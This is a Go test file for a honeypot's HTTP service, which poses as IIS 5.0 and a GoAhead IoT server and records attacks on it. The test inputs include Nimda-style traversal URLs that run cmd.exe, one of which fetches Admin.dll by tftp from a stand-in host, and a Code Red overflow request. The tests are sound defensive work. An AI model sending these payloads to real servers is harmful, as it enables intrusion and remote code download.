package http

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os/exec"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/smallpot/smallpot/internal/config"
	"github.com/smallpot/smallpot/internal/event"
	"github.com/smallpot/smallpot/internal/service"
	"github.com/smallpot/smallpot/internal/service/servicetest"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// fixedNow is the clock of the tests: the day Nimda spread.
var fixedNow = time.Date(2001, 9, 18, 13, 45, 7, 0, time.UTC)

func newServer(t testing.TB, profile string, edit func(*Config)) *Server {
	t.Helper()
	cfg := DefaultConfig(profile)
	if edit != nil {
		edit(cfg)
	}
	s, err := New(cfg, service.Env{Profile: profile})
	if err != nil {
		t.Fatal(err)
	}
	s.now = func() time.Time { return fixedNow }
	return s
}

var dateLine = regexp.MustCompile(`(?m)^Date: [^\r\n]*\r$`)

func normalizeDate(b []byte) []byte { return dateLine.ReplaceAll(b, []byte("Date: DATE\r")) }

func TestTranscriptsIIS(t *testing.T) {
	servicetest.RunTranscripts(t, "testdata", "http", func() any {
		return newServer(t, service.ProfileWindows2000, nil)
	}, servicetest.TranscriptOptions{Normalize: normalizeDate})
}

func TestTranscriptsLinuxIoT(t *testing.T) {
	servicetest.RunTranscripts(t, "testdata/linux-iot", "http", func() any {
		return newServer(t, service.ProfileLinuxIoT, nil)
	}, servicetest.TranscriptOptions{Normalize: normalizeDate})
}

func requests(evs []*event.Event) []*event.Request {
	var out []*event.Request
	for _, e := range servicetest.OfKind(evs, event.KindRequest) {
		out = append(out, e.Detail.(*event.Request))
	}
	return out
}

// Nimda fetches Admin.dll with tftp through one connection and asks for
// it through the next: the fake disk remembers the file for that source.
func TestNimdaAdminDllAcrossConnections(t *testing.T) {
	h := servicetest.Start(t, "http", newServer(t, service.ProfileWindows2000, nil), nil)
	get := func(uri string) []byte {
		return h.Exchange(t, []byte("GET "+uri+" HTTP/1.0\r\nHost: www\r\nConnnection: close\r\n\r\n"), 5*time.Second)
	}
	if out := get("/scripts/..%255c../Admin.dll"); !bytes.HasPrefix(out, []byte("HTTP/1.1 404 Object Not Found\r\n")) {
		t.Fatalf("Admin.dll before the fetch: got %q, want a 404", firstLine(out))
	}
	out := get("/scripts/..%255c../winnt/system32/cmd.exe?/c+tftp%20-i%20192.0.2.7%20GET%20Admin.dll%20c:\\Admin.dll")
	if !bytes.Contains(out, []byte("Transfer successful: ")) || !bytes.HasPrefix(out, []byte("HTTP/1.1 502 Gateway Error\r\n")) {
		t.Fatalf("tftp step: got %q", out)
	}
	if out := get("/scripts/..%255c../Admin.dll"); len(out) != 0 {
		t.Fatalf("Admin.dll after the fetch: got %q, want the silence of a loaded extension", out)
	}
	evs := h.WaitClosed(t, 3)
	reqs := requests(evs)
	if len(reqs) != 3 {
		t.Fatalf("got %d request events, want 3", len(reqs))
	}
	if reqs[2].Action != "isapi:admin.dll" {
		t.Errorf("third request action = %q, want isapi:admin.dll", reqs[2].Action)
	}
	dls := servicetest.OfKind(evs, event.KindDownload)
	if len(dls) != 1 {
		t.Fatalf("got %d download events, want 1", len(dls))
	}
	d := dls[0].Detail.(*event.Download)
	want := event.Download{URL: "tftp://192.0.2.7/Admin.dll", Protocol: "tftp", Host: "192.0.2.7", Path: "/Admin.dll",
		Command: `tftp -i 192.0.2.7 GET Admin.dll c:\Admin.dll`}
	if *d != want {
		t.Errorf("download = %+v, want %+v", *d, want)
	}
	cmds := servicetest.OfKind(evs, event.KindCommand)
	if len(cmds) != 1 || cmds[0].Detail.(*event.Command).Shell != "cmd" {
		t.Fatalf("command events: %s", servicetest.Summary(cmds))
	}
}

func firstLine(b []byte) string {
	if i := bytes.IndexByte(b, '\n'); i >= 0 {
		return string(b[:i])
	}
	return string(b)
}

// CodeRed's request overflows the server: no reply, and the connection
// is held until the client leaves or the hold ends.
func TestCodeRedHoldEnds(t *testing.T) {
	h := servicetest.Start(t, "http", newServer(t, service.ProfileWindows2000, func(c *Config) {
		c.IdaHold = 200 * time.Millisecond
	}), nil)
	c := h.Dial(t)
	req := "GET /default.ida?" + strings.Repeat("N", 224) + "%u9090%u6858%ucbd3%u7801=a HTTP/1.0\r\n\r\n"
	if _, err := c.Write([]byte(req)); err != nil {
		t.Fatal(err)
	}
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	out, err := io.ReadAll(c)
	if err != nil {
		t.Fatalf("the server did not end the held connection: %v", err)
	}
	if len(out) != 0 {
		t.Fatalf("got reply %q, want none", out)
	}
	evs := h.WaitClosed(t, 1)
	reqs := requests(evs)
	if len(reqs) != 1 || reqs[0].Action != "ida:overflow" || reqs[0].Sample == "" {
		t.Fatalf("request events: %+v", reqs)
	}
	if got, ok := h.Samples.Get(reqs[0].Sample); !ok || string(got) != req {
		t.Errorf("sample = %q, want the request as sent", got)
	}
}

// The sample holds exactly the bytes the client sent, for a
// Content-Length body and for a chunked one.
func TestSampleIsTheRequestAsSent(t *testing.T) {
	h := servicetest.Start(t, "http", newServer(t, service.ProfileWindows2000, nil), nil)
	a := "POST /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello"
	b := "PUT /up.txt HTTP/1.1\nHost: x\nTransfer-Encoding: chunked\nConnection: close\n\n5;ext=1\r\nhello\r\n6\r\n world\r\n0\r\nTrailer: t\r\n\r\n"
	h.Exchange(t, []byte(a+b), 5*time.Second)
	reqs := requests(h.WaitClosed(t, 1))
	if len(reqs) != 2 {
		t.Fatalf("got %d requests, want 2", len(reqs))
	}
	for i, want := range []string{a, b} {
		got, ok := h.Samples.Get(reqs[i].Sample)
		if !ok || string(got) != want {
			t.Errorf("request %d: sample %q, want %q", i, got, want)
		}
	}
	if string(reqs[1].Body) != "hello world" || reqs[1].BodyLen != 11 {
		t.Errorf("chunked body = %q (%d), want %q (11)", reqs[1].Body, reqs[1].BodyLen, "hello world")
	}
	if reqs[1].Status != 403 || reqs[1].Action != "webdav:denied" {
		t.Errorf("PUT answered %d %s, want 403 webdav:denied", reqs[1].Status, reqs[1].Action)
	}
}

// A body past the capture cap is drained and the request marked
// truncated; the connection goes on.
func TestCaptureCapTruncates(t *testing.T) {
	h := servicetest.Start(t, "http", newServer(t, service.ProfileWindows2000, func(c *Config) {
		c.CaptureCap = 4 << 10
		c.MaxLine = 1 << 10
		c.MaxHeaderBytes = 1 << 10
		c.EventBody = 100
	}), nil)
	body := strings.Repeat("A", 10000)
	in := "POST /iisstart.htm HTTP/1.1\r\nHost: x\r\nContent-Length: 10000\r\n\r\n" + body +
		"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
	out := h.Exchange(t, []byte(in), 5*time.Second)
	if n := bytes.Count(out, []byte("HTTP/1.1 ")); n != 2 {
		t.Fatalf("got %d responses, want 2: %q", n, out)
	}
	reqs := requests(h.WaitClosed(t, 1))
	r := reqs[0]
	if !r.Truncated || r.BodyLen != 10000 || len(r.Body) != 100 {
		t.Errorf("truncated=%v body_len=%d len(body)=%d, want true 10000 100", r.Truncated, r.BodyLen, len(r.Body))
	}
	if got, _ := h.Samples.Get(r.Sample); len(got) != 4<<10 || !strings.HasPrefix(in, string(got)) {
		t.Errorf("sample holds %d bytes, want the first 4096 sent", len(got))
	}
	if reqs[1].Path != "/" || reqs[1].Status != 200 {
		t.Errorf("second request %s answered %d", reqs[1].Path, reqs[1].Status)
	}
}

func TestMaxRequestsPerConnection(t *testing.T) {
	h := servicetest.Start(t, "http", newServer(t, service.ProfileWindows2000, func(c *Config) { c.MaxRequests = 2 }), nil)
	one := "GET / HTTP/1.1\r\nHost: x\r\n\r\n"
	out := h.Exchange(t, []byte(one+one+one), 5*time.Second)
	resp := strings.Split(string(out), "HTTP/1.1 200 OK\r\n")
	if len(resp) != 3 {
		t.Fatalf("got %d responses, want 2", len(resp)-1)
	}
	if strings.Contains(resp[1], "Connection:") || !strings.Contains(resp[2], "Connection: close\r\n") {
		t.Errorf("only the last response should say Connection: close:\n%s", out)
	}
	if n := len(requests(h.WaitClosed(t, 1))); n != 2 {
		t.Errorf("got %d request events, want 2", n)
	}
}

func TestBasicCredentialsAreLogins(t *testing.T) {
	h := servicetest.Start(t, "http", newServer(t, service.ProfileLinuxIoT, nil), nil)
	out := h.Exchange(t, []byte("GET /cgi-bin/luci HTTP/1.1\r\nHost: r\r\nAuthorization: Basic YWRtaW46cGFzc3dvcmQ=\r\n\r\n"), 5*time.Second)
	if !bytes.HasPrefix(out, []byte("HTTP/1.1 401 Unauthorized\r\nServer: GoAhead-Webs\r\n")) {
		t.Fatalf("got %q", firstLine(out))
	}
	logins := servicetest.OfKind(h.WaitClosed(t, 1), event.KindLogin)
	if len(logins) != 1 {
		t.Fatalf("got %d logins, want 1", len(logins))
	}
	if l := logins[0].Detail.(*event.Login); l.User != "admin" || l.Password != "password" || l.Method != "basic" {
		t.Errorf("login = %+v", *l)
	}
}

func TestDefaultConfigs(t *testing.T) {
	for _, p := range service.Profiles {
		c := DefaultConfig(p)
		if err := c.Validate(); err != nil {
			t.Errorf("%s: %v", p, err)
		}
		if c.Ports[0] != 80 || c.Ports[1] != 8080 || !c.Enabled {
			t.Errorf("%s: ports %v enabled %v, want [80 8080] true", p, c.Ports, c.Enabled)
		}
		if _, err := New(c, service.Env{Profile: p}); err != nil {
			t.Errorf("%s: %v", p, err)
		}
	}
	m, ok := service.Lookup("http")
	if !ok {
		t.Fatal("http is not registered")
	}
	if _, err := m.New(m.Config(service.ProfileWindows2000), service.Env{}); err != nil {
		t.Fatal(err)
	}
}

func TestConfigValidate(t *testing.T) {
	tests := []struct {
		name string
		edit func(*Config)
		want string
	}{
		{"kind", func(c *Config) { c.Persona.Kind = "apache" }, "persona.kind"},
		{"installed", func(c *Config) { c.Persona.Installed = "yesterday" }, "persona.installed"},
		{"server", func(c *Config) { c.Persona.Server = "a\r\nSet-Cookie: x" }, "persona.server"},
		{"title", func(c *Config) { c.Persona.Title = "<script>" }, "persona fields"},
		{"default page", func(c *Config) { c.Persona.DefaultPage = `..\x.htm` }, "default_page"},
		{"capture", func(c *Config) { c.CaptureCap = 10 }, "capture_cap"},
		{"event body", func(c *Config) { c.EventBody = 2 << 20 }, "event_body"},
		{"max line", func(c *Config) { c.MaxLine = 10 }, "max_line"},
		{"max requests", func(c *Config) { c.MaxRequests = 0 }, "max_requests"},
		{"hold", func(c *Config) { c.IdaHold = time.Hour }, "ida_hold"},
		{"headers", func(c *Config) { c.MaxHeaders = 0 }, "max_headers"},
		{"hosts", func(c *Config) { c.MaxHosts = 0 }, "max_hosts"},
	}
	for _, tt := range tests {
		c := DefaultConfig(service.ProfileWindows2000)
		tt.edit(c)
		err := c.Validate()
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: got %v, want an error naming %s", tt.name, err, tt.want)
		}
	}
	c := DefaultConfig(service.ProfileLinuxIoT)
	c.Persona.LoginPage = "login.asp"
	if err := c.Validate(); err == nil {
		t.Error("a login page without a leading slash was accepted")
	}
}

// The section decodes strictly over the profile defaults.
func TestConfigFromYAML(t *testing.T) {
	cfg, err := config.Parse([]byte("profile: linux-iot\nservices:\n  http:\n    ports: [8081]\n    capture_cap: 2MiB\n    persona:\n      realm: NETGEAR R7000\n"))
	if err != nil {
		t.Fatal(err)
	}
	rs, err := cfg.ResolveServices()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs {
		if r.Module.Name != "http" {
			continue
		}
		c := r.Config.(*Config)
		if c.Persona.Realm != "NETGEAR R7000" || c.Persona.Server != "GoAhead-Webs" || c.CaptureCap != 2<<20 || c.Ports[0] != 8081 {
			t.Errorf("decoded %+v", c)
		}
		return
	}
	t.Fatal("http section not resolved")
}

func TestConfigRejectsUnknownKey(t *testing.T) {
	cfg, err := config.Parse([]byte("services:\n  http:\n    persona:\n      banner: x\n"))
	if err == nil {
		_, err = cfg.ResolveServices()
	}
	if err == nil || !strings.Contains(err.Error(), "banner") {
		t.Fatalf("got %v, want an unknown-key error naming banner", err)
	}
}

// The default IIS persona against nmap's own matchers.
func TestNmapNamesIIS(t *testing.T) {
	out := runNmap(t, service.ProfileWindows2000)
	if !strings.Contains(out, "Microsoft IIS httpd 5.0") {
		t.Fatalf("nmap did not name Microsoft IIS httpd 5.0:\n%s", out)
	}
}

func TestNmapNamesGoAhead(t *testing.T) {
	out := runNmap(t, service.ProfileLinuxIoT)
	if !strings.Contains(out, "GoAhead WebServer") {
		t.Fatalf("nmap did not name GoAhead WebServer:\n%s", out)
	}
}

func runNmap(t *testing.T, profile string) string {
	t.Helper()
	h := servicetest.Start(t, "http", newServer(t, profile, nil), nil)
	return servicetest.Nmap(t, h.Addr.Port(), 2*time.Minute, "--version-intensity", "7")
}

// A real client: curl fetches / and then, on the same connection, a
// second page.
func TestCurl(t *testing.T) {
	bin, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("curl is not installed")
	}
	h := servicetest.Start(t, "http", newServer(t, service.ProfileWindows2000, nil), nil)
	base := fmt.Sprintf("http://127.0.0.1:%d", h.Addr.Port())
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, "-sS", "-i", "--max-time", "10", base+"/")
	cmd.WaitDelay = 5 * time.Second // a killed client's children must not hold its pipes open
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("curl: %v\n%s", err, out)
	}
	if !bytes.HasPrefix(out, []byte("HTTP/1.1 200 OK\r\nServer: Microsoft-IIS/5.0\r\n")) || !bytes.Contains(out, []byte("<title id=\"titletext\">Under Construction</title>")) {
		t.Fatalf("curl got:\n%s", out)
	}
	// Two URLs, one connection: curl reuses it as IIS keeps it alive.
	cmd = exec.CommandContext(ctx, bin, "-sS", "--max-time", "10", "-o", "/dev/null", "-o", "/dev/null",
		"-w", "%{http_code} %{num_connects}\n", base+"/", base+"/nosuch.htm")
	cmd.WaitDelay = 5 * time.Second // a killed client's children must not hold its pipes open
	out, err = cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("curl: %v\n%s", err, out)
	}
	if got := strings.Fields(string(out)); len(got) != 4 || got[0] != "200" || got[2] != "404" || got[3] != "0" {
		t.Errorf("curl -w: %q, want 200 then 404 on a reused connection", out)
	}
	evs := h.WaitClosed(t, 2)
	reqs := requests(evs)
	if len(reqs) != 3 || len(servicetest.OfKind(evs, event.KindConnect)) != 2 {
		t.Fatalf("got %d requests on %d connections, want 3 on 2", len(reqs), len(servicetest.OfKind(evs, event.KindConnect)))
	}
	for i, want := range []struct {
		path   string
		status int
	}{{"/", 200}, {"/", 200}, {"/nosuch.htm", 404}} {
		r := reqs[i]
		if r.Path != want.path || r.Status != want.status || !strings.HasPrefix(r.UserAgent, "curl/") || r.Host == "" {
			t.Errorf("request %d: %s %d ua=%q host=%q, want %s %d from curl", i, r.Path, r.Status, r.UserAgent, r.Host, want.path, want.status)
		}
	}
}

// Keep-alive as IIS does it, checked response by response.
func TestKeepAliveRules(t *testing.T) {
	tests := []struct {
		name      string
		req       string
		connHdr   string
		keepsOpen bool
	}{
		{"1.0 closes", "GET / HTTP/1.0\r\n\r\n", "", false},
		{"1.0 keep-alive", "GET / HTTP/1.0\r\nConnection: Keep-Alive\r\n\r\n", "Keep-Alive", true},
		{"1.1 stays", "GET / HTTP/1.1\r\nHost: x\r\n\r\n", "", true},
		{"1.1 close", "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", "close", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := servicetest.Start(t, "http", newServer(t, service.ProfileWindows2000, nil), nil)
			c := h.Dial(t)
			if _, err := c.Write([]byte(tt.req)); err != nil {
				t.Fatal(err)
			}
			_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
			br := bufio.NewReader(c)
			n, hdr := readResponse(t, br)
			if hdr != tt.connHdr {
				t.Errorf("Connection header %q, want %q", hdr, tt.connHdr)
			}
			if n <= 0 {
				t.Fatal("no content length")
			}
			_ = c.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
			_, err := br.ReadByte()
			closed := err == io.EOF
			var ne net.Error
			timedOut := errors.As(err, &ne) && ne.Timeout()
			if closed == tt.keepsOpen || (tt.keepsOpen && !timedOut) {
				t.Errorf("after the response: err %v, want the connection open=%v", err, tt.keepsOpen)
			}
		})
	}
}

// readResponse reads one response with a Content-Length and returns it
// and the Connection header.
func readResponse(t *testing.T, br *bufio.Reader) (int, string) {
	t.Helper()
	length, conn := -1, ""
	for {
		l, err := br.ReadString('\n')
		if err != nil {
			t.Fatalf("reading response: %v", err)
		}
		l = strings.TrimRight(l, "\r\n")
		if l == "" {
			break
		}
		k, v, _ := strings.Cut(l, ": ")
		switch k {
		case "Content-Length":
			length, _ = strconv.Atoi(v)
		case "Connection":
			conn = v
		}
	}
	if _, err := io.CopyN(io.Discard, br, int64(length)); err != nil {
		t.Fatalf("reading body: %v", err)
	}
	return length, conn
}
